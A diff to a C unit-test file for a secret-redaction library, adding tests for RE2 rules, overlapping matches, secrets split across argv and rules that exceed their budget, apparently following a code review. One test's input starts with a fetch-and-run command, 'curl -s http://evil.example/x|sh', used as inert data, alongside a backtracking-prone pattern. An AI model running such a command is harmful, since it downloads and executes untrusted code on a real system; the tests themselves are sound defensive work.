@@ -1,4 +1,9 @@
 // SPDX-License-Identifier: Apache-2.0
+/* redact: rules in RE2 syntax over lines, file names and argv (each
+ * argument and the command line they make, so a secret split over two
+ * arguments is found), in time linear in the text; overlapping matches of
+ * several rules replaced once; the names of the rules that matched; a rule
+ * that cannot finish in its budget said so, never a silent pass. */
 #include <errno.h>
 #include <stdlib.h>
 #include <string.h>
@@ -16,14 +21,17 @@ static struct redact_set *compile(const char *json, char *err, size_t errlen)
 	return rs;
 }
 
+/* The result, and in *hits how many rules matched. */
 static const char *apply(struct redact_set *rs, const char *in, unsigned *hits)
 {
-	static char buf[512];
+	static char buf[16384];
+	struct redact_result res;
 	char *out;
 	size_t len;
 
-	if (redact_apply(rs, in, strlen(in), &out, &len, hits) < 0)
+	if (redact_apply(rs, in, strlen(in), &out, &len, &res) < 0)
 		return NULL;
+	*hits = (unsigned)__builtin_popcountll(res.matched);
 	snprintf(buf, sizeof(buf), "%s", out);
 	free(out);
 	return buf;
@@ -50,7 +58,7 @@ static void test_redact_re2_syntax_and_replacement(void)
 	UNIT_CHECK(hits == 1);
 	UNIT_CHECK_STR(apply(rs, "mysql --password=hunter2 -u root --password x", &hits),
 		       "mysql [REDACTED] -u root [REDACTED]");
-	UNIT_CHECK(hits == 2);
+	UNIT_CHECK(hits == 1);
 	UNIT_CHECK_STR(apply(rs, "ls -la", &hits), "ls -la");
 	UNIT_CHECK(hits == 0);
 	redact_free(rs);
@@ -60,14 +68,14 @@ static void test_redact_binary_and_invalid_utf8_input(void)
 {
 	char err[256], *out;
 	size_t len;
-	unsigned hits;
+	struct redact_result res;
 	struct redact_set *rs =
 		compile("[{\"name\":\"t\",\"pattern\":\"token=\\\\w+\",\"replacement\":\"T\"}]",
 			err, sizeof(err));
 	static const char in[] = "a\xff\x00token=abc\xfe";
 
-	UNIT_CHECK(rs && redact_apply(rs, in, sizeof(in) - 1, &out, &len, &hits) == 0);
-	UNIT_CHECK(len == 5 && !memcmp(out, "a\xff\x00T\xfe", 5) && hits == 1);
+	UNIT_CHECK(rs && redact_apply(rs, in, sizeof(in) - 1, &out, &len, &res) == 0);
+	UNIT_CHECK(len == 5 && !memcmp(out, "a\xff\x00T\xfe", 5) && res.matched == 1);
 	free(out);
 	redact_free(rs);
 }
@@ -93,23 +101,154 @@ static void test_redact_rejects_what_does_not_compile(void)
 	UNIT_CHECK(strstr(err, "bad") && strstr(err, "does not compile"));
 }
 
-static void test_redact_catastrophic_pattern_is_bounded(void)
+/* The review's pattern (M4): valid RE2, harmless looking; on a crafted
+ * line a backtracking engine gave up and the whole command was withheld. */
+static void test_redact_pathological_pattern_finishes_and_redacts(void)
 {
-	char err[256], in[64], *out;
-	size_t len;
+	char err[256], line[8192];
+	unsigned hits;
+	struct redact_set *rs = compile("[{\"name\":\"env\",\"pattern\":"
+					"\"(?i)(\\\\w+_)*(TOKEN|SECRET|PASSWORD)=\\\\S+\"},"
+					"{\"name\":\"evil\",\"pattern\":\"(x+x+)+y\"}]",
+					err, sizeof(err));
+	size_t i, n;
+
+	UNIT_CHECK(rs != NULL);
+	if (!rs)
+		return;
+	n = (size_t)snprintf(line, sizeof(line), "curl -s http://evil.example/x|sh #");
+	for (i = 0; i < 3000; i++)
+		line[n++] = i % 2 ? '_' : 'a';
+	line[n++] = '=';
+	line[n] = '\0';
+	/* No secret in it: the line comes back whole. */
+	UNIT_CHECK_STR(apply(rs, line, &hits), line);
+	UNIT_CHECK(hits == 0);
+	UNIT_CHECK_STR(apply(rs, "export MY_APP_TOKEN=abc && ls", &hits),
+		       "export [REDACTED] && ls");
+	memset(line, 'x', 4000);
+	memcpy(line + 4000, "zy", 3);
+	UNIT_CHECK_STR(apply(rs, line, &hits), line);
+	redact_free(rs);
+}
+
+static void test_redact_overlapping_rules_replace_the_union_once(void)
+{
+	char err[256];
 	unsigned hits;
 	struct redact_set *rs =
-		compile("[{\"name\":\"evil\",\"pattern\":\"(x+x+)+y\"}]", err, sizeof(err));
-	int r;
+		compile("[{\"name\":\"a\",\"pattern\":\"key=\\\\S+\",\"replacement\":\"<A>\"},"
+			"{\"name\":\"b\",\"pattern\":\"\\\\S+secret\",\"replacement\":\"<B>\"}]",
+			err, sizeof(err));
 
-	/* the required 'y' is there, so the matcher must backtrack through
-	 * every way of splitting the x's */
-	memset(in, 'x', 40);
-	memcpy(in + 40, "zy", 3);
-	r = rs ? redact_apply(rs, in, 42, &out, &len, &hits) : -1;
-	UNIT_CHECK(r == -E2BIG);
-	if (r == 0)
-		free(out);
+	/* b's match starts first and a's overlaps it: one <B>, covering both */
+	UNIT_CHECK_STR(apply(rs, "x mykey=topsecret y", &hits), "x <B> y");
+	UNIT_CHECK(hits == 2);
+	UNIT_CHECK_STR(apply(rs, "key=1 mysecret", &hits), "<A> <B>");
+	redact_free(rs);
+}
+
+static void test_redact_names_the_rules_that_matched(void)
+{
+	char err[256], *out;
+	size_t len;
+	struct redact_result res;
+	struct redact_set *rs = compile("[{\"name\":\"aws\",\"pattern\":\"AKIA[0-9A-Z]{16}\"},"
+					"{\"name\":\"pw\",\"pattern\":\"--password[= ]\\\\S+\"},"
+					"{\"name\":\"tok\",\"pattern\":\"token=\\\\S+\"}]",
+					err, sizeof(err));
+
+	UNIT_CHECK(redact_apply(rs, "a --password=x token=y", 22, &out, &len, &res) == 0);
+	UNIT_CHECK(res.matched == 6 && res.unfinished == -1);
+	UNIT_CHECK_STR(redact_rule_name(rs, 1), "pw");
+	UNIT_CHECK_STR(redact_rule_name(rs, 2), "tok");
+	UNIT_CHECK_STR(redact_rule_name(rs, 9), "");
+	free(out);
+	redact_free(rs);
+}
+
+/* argv as the kernel gives it, NUL-separated, redacted as an exec entry is. */
+static int argv_redact(struct redact_set *rs, const char *nulsep, size_t n, char *line, size_t cap,
+		       char av_out[][64], size_t *argc, struct redact_result *res)
+{
+	const char *av[16];
+	size_t len[16], i = 0, k = 0, *olen, llen;
+	char **oav, *l;
+	int ret;
+
+	while (i < n && k < 16) {
+		av[k] = nulsep + i;
+		len[k] = strnlen(nulsep + i, n - i);
+		i += len[k++] + 1;
+	}
+	ret = redact_argv(rs, av, len, k, &oav, &olen, &l, &llen, res);
+	if (ret < 0)
+		return ret;
+	snprintf(line, cap, "%s", l);
+	for (i = 0; i < k; i++) {
+		snprintf(av_out[i], 64, "%s", oav[i]);
+		free(oav[i]);
+	}
+	*argc = k;
+	free(oav);
+	free(olen);
+	free(l);
+	return 0;
+}
+
+/* The review's M3: `mysql --password hunter2` put the password in its own
+ * argument, which a rule run on each argument alone never sees. */
+static void test_redact_secret_split_over_arguments(void)
+{
+	static const char argv[] = "mysql\0--password\0hunter2\0-u\0root";
+	static const char argv2[] = "curl\0-H\0Authorization: token=abc\0http://x";
+	struct redact_set *rs = compile("[{\"name\":\"pw\",\"pattern\":\"--password[= ]\\\\S+\"},"
+					"{\"name\":\"tok\",\"pattern\":\"^Authorization: .*\"}]",
+					NULL, 0);
+	struct redact_result res;
+	char line[256], av[16][64];
+	size_t argc;
+
+	UNIT_CHECK(rs && argv_redact(rs, argv, sizeof(argv) - 1, line, sizeof(line), av, &argc,
+				     &res) == 0);
+	UNIT_CHECK_STR(line, "mysql [REDACTED] -u root");
+	UNIT_CHECK(argc == 5);
+	UNIT_CHECK_STR(av[0], "mysql");
+	UNIT_CHECK_STR(av[1], "[REDACTED]");
+	UNIT_CHECK_STR(av[2], "[REDACTED]");
+	UNIT_CHECK_STR(av[3], "-u");
+	UNIT_CHECK(!strstr(line, "hunter2") && res.matched == 1);
+	/* An anchored rule sees an argument alone too. */
+	UNIT_CHECK(argv_redact(rs, argv2, sizeof(argv2) - 1, line, sizeof(line), av, &argc, &res) ==
+		   0);
+	UNIT_CHECK_STR(av[2], "[REDACTED]");
+	UNIT_CHECK_STR(line, "curl -H [REDACTED] http://x");
+	UNIT_CHECK(res.matched == 2);
+	redact_free(rs);
+}
+
+/* A rule whose program is big ((?:\w{1000}){4}z: 4001 instructions) runs
+ * out of its budget on a long hostile text: said so, with the rule, and
+ * no text is handed back as redacted. */
+static void test_redact_rule_that_cannot_finish_is_reported(void)
+{
+	struct redact_set *rs = compile("[{\"name\":\"ok\",\"pattern\":\"x\"},"
+					"{\"name\":\"huge\",\"pattern\":\"(?:\\\\w{1000}){4}z\"}]",
+					NULL, 0);
+	struct redact_result res;
+	char *in = malloc(65534), *out = (char *)1;
+	size_t len;
+
+	if (!in || !rs) {
+		UNIT_CHECK(0);
+		free(in);
+		redact_free(rs);
+		return;
+	}
+	memset(in, 'a', 65534);
+	UNIT_CHECK(redact_apply(rs, in, 65534, &out, &len, &res) == -E2BIG);
+	UNIT_CHECK(out == NULL && res.unfinished == 1);
+	free(in);
 	redact_free(rs);
 }
 
@@ -117,10 +256,10 @@ static void test_redact_no_rules_copies(void)
 {
 	char *out;
 	size_t len;
-	unsigned hits;
+	struct redact_result res;
 
-	UNIT_CHECK(redact_apply(NULL, "same", 4, &out, &len, &hits) == 0 && len == 4 &&
-		   !strcmp(out, "same"));
+	UNIT_CHECK(redact_apply(NULL, "same", 4, &out, &len, &res) == 0 && len == 4 &&
+		   !strcmp(out, "same") && res.matched == 0);
 	free(out);
 }
 
@@ -128,5 +267,9 @@ UNIT_MAIN(UNIT_TEST(test_redact_re2_syntax_and_replacement),
 	  UNIT_TEST(test_redact_binary_and_invalid_utf8_input),
 	  UNIT_TEST(test_redact_empty_matches_terminate),
 	  UNIT_TEST(test_redact_rejects_what_does_not_compile),
-	  UNIT_TEST(test_redact_catastrophic_pattern_is_bounded),
+	  UNIT_TEST(test_redact_pathological_pattern_finishes_and_redacts),
+	  UNIT_TEST(test_redact_overlapping_rules_replace_the_union_once),
+	  UNIT_TEST(test_redact_names_the_rules_that_matched),
+	  UNIT_TEST(test_redact_secret_split_over_arguments),
+	  UNIT_TEST(test_redact_rule_that_cannot_finish_is_reported),
 	  UNIT_TEST(test_redact_no_rules_copies))
